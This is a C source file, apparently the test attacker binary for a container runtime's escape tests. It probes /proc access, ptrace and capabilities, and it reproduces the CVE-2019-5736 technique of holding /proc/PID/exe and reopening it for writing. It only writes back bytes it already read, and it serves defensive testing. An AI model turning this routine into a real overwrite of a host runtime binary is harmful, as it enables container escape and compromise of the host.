/*
 * attack: the attacker of the escape tests (src/test/java/io/capsa/runtime/EscapeTest*.java). A static binary the
 * tests compile and copy into a rootfs (or run on the host as a hook). It only ever *tries* things and reports
 * each outcome as a line "name=ok" or "name=ERRNONAME" on stdout; it never changes a file's content: a write it
 * manages to open is a write of the very bytes read from the same place.
 *
 *   attack ids                     uid/euid and the capability lines of /proc/self/status
 *   attack fds                     "fds=0 1 2 ..." the open fds (without the one listing them)
 *   attack probe PID               readlink/open of /proc/PID/{exe,mem,environ,fd}, PTRACE_ATTACH, kill 0
 *   attack exe PID|scan:TEXT MODE SECONDS
 *                                  CVE-2019-5736: hold /proc/PID/exe (PID, or the first process whose exe link
 *                                  contains TEXT and can be opened), try to open it for writing, then let the
 *                                  process go (MODE kill: SIGKILL it; MODE change: wait until its exe changes or
 *                                  it is gone) and reopen the held file for writing through /proc/self/fd.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *en(int e) { return e ? strerrorname_np(e) : "ok"; }

static void report(const char *name, int err)
{
	printf("%s=%s\n", name, en(err));
	fflush(stdout);
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static int try_open(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return errno;
	close(fd);
	return 0;
}

static int cmd_ids(void)
{
	printf("uid=%d euid=%d gid=%d egid=%d\n", getuid(), geteuid(), getgid(), getegid());
	FILE *f = fopen("/proc/self/status", "r");
	char line[256];
	while (f && fgets(line, sizeof line, f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10))
			fputs(line, stdout);
	return 0;
}

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		report("opendir", errno);
		return 1;
	}
	printf("fds=");
	struct dirent *e;
	int first = 1;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		printf(first ? "%s" : " %s", e->d_name);
		first = 0;
	}
	printf("\n");
	closedir(d);
	return 0;
}

static int cmd_probe(const char *pid)
{
	char p[64], buf[256];
	snprintf(p, sizeof p, "/proc/%s/exe", pid);
	ssize_t n = readlink(p, buf, sizeof buf - 1);
	report("readlink-exe", n < 0 ? errno : 0);
	report("open-exe-write", try_open(p, O_WRONLY));
	snprintf(p, sizeof p, "/proc/%s/mem", pid);
	report("open-mem", try_open(p, O_RDWR));
	snprintf(p, sizeof p, "/proc/%s/environ", pid);
	report("open-environ", try_open(p, O_RDONLY));
	snprintf(p, sizeof p, "/proc/%s/fd", pid);
	DIR *d = opendir(p);
	report("opendir-fd", d ? 0 : errno);
	if (d)
		closedir(d);
	pid_t t = atoi(pid);
	if (ptrace(PTRACE_ATTACH, t, 0, 0) == 0) {
		report("ptrace-attach", 0);
		waitpid(t, NULL, __WALL);
		ptrace(PTRACE_DETACH, t, 0, 0);
	} else {
		report("ptrace-attach", errno);
	}
	report("kill-0", kill(t, 0) < 0 ? errno : 0);
	return 0;
}

/* The first process whose exe link contains `text` and whose exe can be opened: its pid, the held fd in *fd. */
static pid_t scan(const char *text, int *fd, double end)
{
	int last = -1;
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			char p[64], buf[256];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			ssize_t n = readlink(p, buf, sizeof buf - 1);
			if (n < 0) {
				if (errno == EACCES || errno == EPERM)
					last = errno;
				continue;
			}
			buf[n] = 0;
			if (!strstr(buf, text))
				continue;
			*fd = open(p, O_RDONLY | O_CLOEXEC);
			if (*fd >= 0) {
				closedir(d);
				return pid;
			}
			last = errno;
		}
		if (d)
			closedir(d);
	}
	report("found", last < 0 ? ENOENT : last);
	return -1;
}

static int cmd_exe(const char *target, const char *mode, const char *seconds)
{
	double end = now() + atof(seconds);
	char p[64], link[256] = "";
	int fd = -1;
	pid_t pid;
	if (!strncmp(target, "scan:", 5)) {
		pid = scan(target + 5, &fd, end);
		if (pid < 0)
			return 0;
		snprintf(p, sizeof p, "/proc/%d/exe", pid);
	} else {
		pid = atoi(target);
		snprintf(p, sizeof p, "/proc/%d/exe", pid);
		fd = open(p, O_RDONLY | O_CLOEXEC);
	}
	report("open-exe", fd < 0 ? errno : 0);
	if (fd < 0)
		return 0;
	char held[32];
	snprintf(held, sizeof held, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(held, link, sizeof link - 1);
	link[n > 0 ? n : 0] = 0;
	printf("exe=%s\nseals=%d\n", link, fcntl(fd, F_GET_SEALS));
	report("open-exe-write", try_open(p, O_WRONLY));
	if (!strcmp(mode, "kill")) {
		kill(pid, SIGKILL);
		report("killed", 0);
	}
	/* until the process no longer runs that file: exited, or exec'd something else */
	for (;;) {
		char now_link[256];
		n = readlink(p, now_link, sizeof now_link - 1);
		if (n < 0)
			break;
		now_link[n] = 0;
		char st[64], state = 0;
		snprintf(st, sizeof st, "/proc/%d/stat", pid);
		FILE *f = fopen(st, "r");
		if (f) {
			if (fscanf(f, "%*d %*s %c", &state) != 1)
				state = 0;
			fclose(f);
		}
		if (strcmp(now_link, link) || state == 'Z' || state == 'X')
			break;
		if (now() > end) {
			report("released", ETIMEDOUT);
			return 0;
		}
		usleep(5000);
	}
	report("released", 0);
	int w = open(held, O_WRONLY | O_CLOEXEC);
	report("reopen-write", w < 0 ? errno : 0);
	if (w >= 0) {
		char magic[4];
		int e = pread(fd, magic, 4, 0) == 4 && pwrite(w, magic, 4, 0) == 4 ? 0 : errno;
		report("write", e);
		close(w);
	}
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	int rc = 2;
	if (argc == 2 && !strcmp(argv[1], "ids"))
		rc = cmd_ids();
	else if (argc == 2 && !strcmp(argv[1], "fds"))
		rc = cmd_fds();
	else if (argc == 3 && !strcmp(argv[1], "probe"))
		rc = cmd_probe(argv[2]);
	else if (argc == 5 && !strcmp(argv[1], "exe"))
		rc = cmd_exe(argv[2], argv[3], argv[4]);
	else
		fprintf(stderr, "usage: attack ids | fds | probe PID | exe PID|scan:TEXT kill|change SECONDS\n");
	printf("done\n");
	return rc;
}
